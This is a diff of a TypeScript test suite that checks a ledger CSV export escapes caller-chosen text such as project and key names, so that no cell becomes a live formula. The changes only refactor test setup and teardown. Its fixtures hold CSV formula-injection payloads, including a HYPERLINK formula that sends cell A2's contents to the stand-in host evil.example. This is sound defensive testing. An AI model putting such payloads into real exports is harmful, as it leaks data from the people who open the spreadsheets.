@@ -1,6 +1,5 @@
 import { parseCsv } from './support/csv.js';
-import { SmtpSink } from './support/smtp-sink.js';
-import { type TestApp, call, dropSchema, rename, setUpOrganization, startTestApp } from './support/test-app.js';
+import { call, rename, setUpOrganization, useTestApp } from './support/test-app.js';
 
 const PROJECT_NAME = '=1+1';
 const KEY_NAME = '=HYPERLINK("http://evil.example/?leak="&A2,"open")';
@@ -13,16 +12,13 @@ const IDEMPOTENCY_KEYS = ['=HYPERLINK("http://evil.example/?leak="&A2,"open")', 
  * first, the cell quoted. Numbers stay numbers.
  */
 describe('ledger CSV export: caller-chosen text is never a live formula', () => {
-  let smtp: SmtpSink;
-  let app: TestApp;
   let owner: Awaited<ReturnType<typeof setUpOrganization>>;
   let rows: Record<string, string>[];
   let raw: string;
 
+  const app = useTestApp({}, 60_000);
   beforeAll(async () => {
-    smtp = await SmtpSink.start();
-    app = await startTestApp({ env: { SMTP_URL: smtp.url } });
-    owner = await setUpOrganization(app, smtp, 'finance@csv.test');
+    owner = await setUpOrganization(app, app.smtp, 'finance@csv.test');
     const project = await call(app.url, 'POST', `/orgs/${owner.orgId}/projects`, {
       token: owner.session,
       body: { name: PROJECT_NAME },
@@ -56,12 +52,6 @@ describe('ledger CSV export: caller-chosen text is never a live formula', () => 
     rows = records.map((record) => Object.fromEntries(header!.map((name, i) => [name, record[i]!])));
     expect(rows).toHaveLength(5);
   }, 60_000);
-
-  afterAll(async () => {
-    await app?.close();
-    await smtp?.stop();
-    if (app) await dropSchema(app.schema);
-  });
 
   test('project_name: a project named =1+1 is the text =1+1', () => {
     for (const row of rows) expect(row.project_name).toBe(`'${PROJECT_NAME}`);
